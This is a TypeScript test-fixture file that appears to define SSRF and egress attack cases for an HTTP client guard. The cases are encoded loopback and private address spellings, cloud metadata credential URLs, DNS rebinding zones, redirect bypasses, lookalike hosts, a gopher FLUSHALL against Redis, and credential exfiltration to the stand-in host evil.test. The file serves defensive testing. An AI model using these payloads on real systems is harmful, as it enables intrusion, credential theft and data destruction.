/**
 * The attacks of the campaign `egress`, as data. Every address but those of `NETWORK` is one that a request may not reach;
 * a name without an answer in `zone` leads to the attacker's server.
 */

/** Public addresses: everything answers to them, and connections to them are no hits where the attack allows them. */
export const NETWORK = {
  /** `provider.test`, which the definitions declare. */
  provider: '93.184.216.34',
  /** Where every name that nobody declared leads. */
  evil: '8.8.4.4',
} as const

/** Ports that the trap listens on. */
export const TRAP_PORTS = [
  21, 22, 25, 80, 110, 389, 443, 445, 1023, 2375, 2628, 3306, 5432, 6379, 8080, 8443, 9200,
] as const

export interface Attack {
  name: string
  /** What the attack gets around: the address guard (which can be opened, to see that it is what stops it), or a rule. */
  kind: 'address' | 'rule'
  /** Sent in turn, by one client. */
  urls: readonly string[]
  /** Answers of the attacker's name server, in turn; the last one stays. */
  zone?: Readonly<Record<string, readonly (readonly string[])[]>>
  /** Default: the host of the first URL, and the provider: whatever it is, it counts as declared. */
  declared?: readonly string[]
  method?: 'GET' | 'POST'
  /** The attacker's server may be asked, but must not see a credential. */
  mayReachEvil?: true
  /** Why not even a careless client gets there: then the trap cannot be expected to notice it. */
  unreachable?: string
}

const NO_ROUTE = 'the system opens no TCP connection to it'
const NO_NETWORK = 'it is about no network'
const NO_ADDRESS = 'it is no address at all'

/** Spellings of IPv4 addresses as hosts of URLs. */
const IPV4_HOSTS = `
127.0.0.1 127.0.0.2 127.255.255.254 127.1 127.0.1 127.000.000.001 2130706433 0x7f000001 0x7F.0.0.1 0x7f.1 0x7f.0x0.0x0.0x1
017700000001 0177.0.0.1 0177.0.0.01 00000000177.1 0x7f.0.0.01 127.0.0.1. 127.1. １２７.０.０.１ ①②⑦.⓪.⓪.① 127。0。0。1
%31%32%37.0.0.1 127%2E0%2E0%2E1 0 0.0.0.0 0x0 0.1.2.3
10.0.0.1 10.255.255.254 10.1 012.0.0.1 167772161 0xa000001 0x0a.0.0.1
172.16.0.1 172.31.255.254 2886729729 192.168.0.1 192.168.255.254 192.168.257 3232235521 0300.0250.0.1
169.254.169.254 169.254.169.254. 2852039166 0xa9fea9fe 0xA9.0xFE.0xA9.0xFE 0251.0376.0251.0376 169.254.43518 169.254.170.2 169.254.169.253
100.64.0.1 100.127.255.254 100.100.100.200 168.63.129.16 192.0.0.192 192.0.0.8
192.0.2.1 198.18.0.1 198.19.255.254 198.51.100.1 203.0.113.1 192.88.99.1 240.0.0.1 255.255.255.254
`
  .trim()
  .split(/\s+/)

const UNROUTABLE_HOSTS = [
  '224.0.0.1',
  '239.255.255.250',
  '255.255.255.255',
  '[ff02::1]',
  '[ff05::1:3]',
  '[fe80::1]',
  '[fe80::a9fe:a9fe]',
]

/** IPv6: loopback, and all that carries or stands for another address. */
const IPV6_HOSTS = `
[::1] [0:0:0:0:0:0:0:1] [0000:0000:0000:0000:0000:0000:0000:0001] [::0001] [::] [0::0]
[::ffff:127.0.0.1] [::ffff:7f00:1] [::FFFF:7F00:0001] [0:0:0:0:0:ffff:10.0.0.1] [::ffff:a9fe:a9fe] [::ffff:192.168.0.1] [::ffff:0.0.0.0]
[::127.0.0.1] [::7f00:1] [::10.0.0.1] [::ffff:0:127.0.0.1] [::ffff:0:a00:1]
[64:ff9b::127.0.0.1] [64:ff9b::7f00:1] [64:ff9b::a9fe:a9fe] [64:ff9b::10.0.0.1] [64:ff9b:1::a00:1] [64:ff9b:1:7f00:0:100::]
[2002:7f00:1::] [2002:a00:1::1] [2002:a9fe:a9fe::] [2002:c0a8:1::1]
[2001:0:808:808::80ff:fffe] [2001:0:a00:1::f7f7:fbfb] [2001::80ff:fffe]
[fd00::1] [fdff:ffff::1] [fc00::1] [fd00:ec2::254] [fd20:ce::254] [fec0::1]
[100::1] [2001:db8::1] [2001:10::1] [2001:20::1] [2001:2::1] [3fff::1] [5f00::1] [4000::1] [::2]
`
  .trim()
  .split(/\s+/)

/** Addresses that a name may resolve to, as a resolver spells them. */
const RESOLVED = `
127.0.0.1 0.0.0.0 10.0.0.1 172.16.0.1 192.168.0.1 169.254.169.254 100.64.0.1 168.63.129.16 192.0.0.192 198.18.0.1 240.0.0.1
::1 :: ::ffff:127.0.0.1 ::ffff:a9fe:a9fe ::127.0.0.1 ::ffff:0:10.0.0.1 64:ff9b::7f00:1 64:ff9b:1::a00:1 2002:7f00:1:: 2001:0:808:808::80ff:fffe
fd00::1 fd00:ec2::254 fec0::1 2001:db8::1
`
  .trim()
  .split(/\s+/)

const nameOf = (address: string) => `at-${address.replaceAll(/[.:]/g, '-')}.rebind.test`

/** The provider's page that sends on to `location`. */
export function via(location: string, status = 302): string {
  return `https://provider.test/to?status=${status}&location=${encodeURIComponent(location)}`
}

const literals: Attack[] = [
  ...[...IPV4_HOSTS, ...IPV6_HOSTS].map(
    (host): Attack => ({ name: `address ${host}`, kind: 'address', urls: [`https://${host}/`] }),
  ),
  ...UNROUTABLE_HOSTS.map(
    (host): Attack => ({
      name: `address ${host}`,
      kind: 'address',
      urls: [`https://${host}/`],
      unreachable: NO_ROUTE,
    }),
  ),
  ...['6379', '8080', '9200', '2375'].map(
    (port): Attack => ({
      name: `address with port ${port}`,
      kind: 'address',
      urls: [`https://10.0.0.1:${port}/`],
    }),
  ),
  {
    name: 'scoped link-local address',
    kind: 'address',
    urls: ['https://[fe80::1%25lo]/'],
    unreachable: NO_ADDRESS,
  },
]

const names: Attack[] = [
  ...RESOLVED.map((address): Attack => {
    const name = nameOf(address)
    return {
      name: `name of ${address}`,
      kind: 'address',
      urls: [`https://${name}/`],
      zone: { [name]: [[address]] },
    }
  }),
  ...['localhost', 'LOCALHOST', 'localhost.', 'ip6-localhost', 'metadata.google.internal'].map(
    (host): Attack => ({
      name: `name ${host}`,
      kind: 'address',
      urls: [`https://${host}/`],
      zone: { [host.toLowerCase().replace(/\.$/, '')]: [['127.0.0.1']] },
    }),
  ),
  {
    name: 'mixed answers, the public one first',
    kind: 'address',
    urls: ['https://mixed.test/'],
    zone: { 'mixed.test': [[NETWORK.provider, '10.0.0.1']] },
    unreachable: 'a client that takes the first answer does not get there',
  },
  {
    name: 'mixed answers, the private one first',
    kind: 'address',
    urls: ['https://mixed.test/'],
    zone: { 'mixed.test': [['10.0.0.1', NETWORK.provider]] },
  },
  {
    name: 'mixed families',
    kind: 'address',
    urls: ['https://mixed.test/'],
    zone: { 'mixed.test': [['::1', NETWORK.provider]] },
  },
  {
    name: 'rebinding: the second answer is private',
    kind: 'address',
    urls: ['https://rebind.test/', 'https://rebind.test/again'],
    zone: { 'rebind.test': [[NETWORK.provider], ['127.0.0.1']] },
  },
  {
    name: 'rebinding to cloud metadata, after many public answers',
    kind: 'address',
    urls: Array.from({ length: 5 }, (_, index) => `https://rebind.test/${index}`),
    zone: { 'rebind.test': [...Array.from({ length: 4 }, () => [NETWORK.provider]), ['169.254.169.254']] },
  },
  {
    name: 'rebinding from one port to another',
    kind: 'address',
    urls: ['https://rebind.test/', 'https://rebind.test:8443/'],
    zone: { 'rebind.test': [[NETWORK.provider], ['::ffff:127.0.0.1']] },
  },
]

/** What redirects lead to: the status does not matter to any of them. */
const REDIRECT_TARGETS = [
  'https://10.0.0.1/',
  'https://127.1/',
  'https://2130706433/',
  'https://0x7f.1/',
  'https://[::1]/',
  'https://[::ffff:169.254.169.254]/',
  'https://[64:ff9b::a00:1]/',
  'https://１２７.０.０.１/',
  'https://127.0.0.1./',
  '//10.0.0.1/',
  '///10.0.0.1/',
  '\\\\10.0.0.1\\',
  '/\\10.0.0.1/',
  'https:\\\\10.0.0.1\\',
  'https:////10.0.0.1/',
  'ht\ttps://10.0.0.1/',
  'https://10.0.0.1:8080/latest/meta-data/',
  'https://at-inside.rebind.test/',
]

const INSIDE_ZONE = { 'at-inside.rebind.test': [['10.0.0.1']] }
const chain = (hops: number, last: string): string => (hops === 0 ? last : via(chain(hops - 1, last)))

const redirects: Attack[] = [
  ...REDIRECT_TARGETS.map(
    (target): Attack => ({
      name: `redirect to ${JSON.stringify(target)}`,
      kind: 'address',
      urls: [via(target)],
      zone: INSIDE_ZONE,
    }),
  ),
  ...[301, 303, 307, 308].map(
    (status): Attack => ({
      name: `redirect ${status}`,
      kind: 'address',
      urls: [via('https://10.0.0.1/', status)],
    }),
  ),
  ...[302, 307, 308].map(
    (status): Attack => ({
      name: `redirect ${status} of a POST`,
      kind: 'address',
      urls: [via('https://10.0.0.1/', status)],
      declared: ['provider.test', '10.0.0.1'],
      method: 'POST',
    }),
  ),
  ...[2, 4, 5].map(
    (hops): Attack => ({
      name: `chain of ${hops} redirects`,
      kind: 'address',
      urls: [chain(hops, 'https://10.0.0.1/')],
    }),
  ),
  { name: 'chain over the limit', kind: 'rule', urls: [chain(6, 'https://10.0.0.1/')] },
  { name: 'redirect to plain http', kind: 'rule', urls: [via('http://10.0.0.1/')] },
  { name: 'redirect to plain http of the provider', kind: 'rule', urls: [via('http://provider.test/')] },
  { name: 'redirect to user info', kind: 'rule', urls: [via('https://provider.test@10.0.0.1/')] },
  { name: 'redirect to a closed port', kind: 'rule', urls: [via('https://provider.test:22/')] },
  { name: 'redirect to ftp', kind: 'rule', urls: [via('ftp://10.0.0.1/')] },
  { name: 'redirect to gopher', kind: 'rule', urls: [via('gopher://10.0.0.1:6379/_FLUSHALL')] },
  { name: 'redirect to a file', kind: 'rule', urls: [via('file:///etc/passwd')], unreachable: NO_NETWORK },
  {
    name: 'redirect through an undeclared host',
    kind: 'address',
    urls: [via(`https://evil.test/to?location=${encodeURIComponent('https://10.0.0.1/')}`)],
    mayReachEvil: true,
  },
  {
    name: 'redirect to a name that changes its address',
    kind: 'address',
    urls: [via('https://rebind.test/'), via('https://rebind.test/')],
    zone: { 'rebind.test': [[NETWORK.provider], ['10.0.0.1']] },
  },
  {
    name: 'credentials to an undeclared host',
    kind: 'rule',
    urls: [via('https://evil.test/')],
    mayReachEvil: true,
  },
  {
    name: 'credentials to an undeclared host by 307',
    kind: 'rule',
    urls: [via('https://evil.test/', 307)],
    mayReachEvil: true,
  },
  {
    name: 'credentials to an undeclared host without scheme',
    kind: 'rule',
    urls: [via('//evil.test/')],
    mayReachEvil: true,
  },
  {
    name: 'credentials to an undeclared host after a detour',
    kind: 'rule',
    urls: [via(`https://evil.test/to?location=${encodeURIComponent(via('https://evil.test/'))}`)],
    mayReachEvil: true,
  },
  {
    name: 'a credential of the query, renamed',
    kind: 'rule',
    urls: [`${via('https://evil.test/?stolen=')}&append=key`],
    mayReachEvil: true,
  },
  {
    name: 'a POST to an undeclared host',
    kind: 'rule',
    urls: [via('https://evil.test/', 307)],
    method: 'POST',
    mayReachEvil: true,
  },
  {
    name: 'a POST to an undeclared host by 308',
    kind: 'rule',
    urls: [via('https://evil.test/', 308)],
    method: 'POST',
    mayReachEvil: true,
  },
]

/** Hosts that look or read like the declared `provider.test` and are not. */
const UNDECLARED_HOSTS = [
  'evil.test',
  'evil.test.',
  'EVIL.TEST',
  'provider.test.evil.test',
  'evil-provider.test',
  'xprovider.test',
  'provider.testing',
  'provider.tes',
  'www.provider.test',
  'prоvider.test',
  'рrovider.test',
  'provıder.test',
  'provider-test',
  'provider.test%2eevil.test',
  'provider.test。evil.test',
  'xn--prvider-6fg.test',
  '93.184.216.35',
  '[2606:4700:4700::1111]',
]

const undeclared: Attack[] = [
  ...UNDECLARED_HOSTS.map(
    (host): Attack => ({
      name: `undeclared host ${host}`,
      kind: 'rule',
      urls: [`https://${host}/`],
      declared: ['provider.test'],
    }),
  ),
  ...[
    'https:evil.test',
    'https:///evil.test/',
    'https:\\\\evil.test\\',
    'https://ev\til.test/',
    'https://evil.test\\@provider.test/',
    'https://evil.test/@provider.test/',
    'https://evil.test#@provider.test/',
    'https://evil.test?@provider.test/',
    'https://provider.test@evil.test/',
    'https://provider.test:443@evil.test/',
    'https://provider.test%40evil.test@evil.test/',
  ].map(
    (url): Attack => ({
      name: `undeclared host in ${JSON.stringify(url)}`,
      kind: 'rule',
      urls: [url],
      declared: ['provider.test'],
    }),
  ),
]

const rules: Attack[] = [
  ...[
    'http://10.0.0.1/',
    'http://127.0.0.1:8080/',
    'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    'http://[fd00:ec2::254]/latest/meta-data/',
    'http://provider.test/',
    'ftp://10.0.0.1/',
    'gopher://10.0.0.1:6379/_FLUSHALL',
    'dict://10.0.0.1/d:x',
    'ldap://10.0.0.1/',
    'ws://10.0.0.1/',
    'wss://10.0.0.1/',
  ].map((url): Attack => ({ name: url, kind: 'rule', urls: [url] })),
  ...[
    'file:///etc/passwd',
    'data:text/plain,x',
    'javascript:fetch("https://10.0.0.1")',
    'blob:https://10.0.0.1/x',
  ].map((url): Attack => ({ name: url, kind: 'rule', urls: [url], unreachable: NO_NETWORK })),
  ...[21, 22, 25, 110, 389, 445, 1023].map(
    (port): Attack => ({
      name: `port ${port} of the provider`,
      kind: 'rule',
      urls: [`https://provider.test:${port}/`],
    }),
  ),
  { name: 'port 0', kind: 'rule', urls: ['https://provider.test:0/'], unreachable: NO_ROUTE },
  {
    name: 'port over the last',
    kind: 'rule',
    urls: ['https://provider.test:65536/'],
    unreachable: NO_ADDRESS,
  },
  { name: 'a user in the address', kind: 'rule', urls: ['https://user@10.0.0.1/'] },
  { name: 'a password in the address', kind: 'rule', urls: ['https://:pass@10.0.0.1/'] },
  { name: 'the provider as user', kind: 'rule', urls: ['https://provider.test@10.0.0.1/'] },
  { name: 'the provider as user and password', kind: 'rule', urls: ['https://provider.test:443@127.0.0.1/'] },
]

export const ATTACKS: readonly Attack[] = [...literals, ...names, ...redirects, ...undeclared, ...rules]
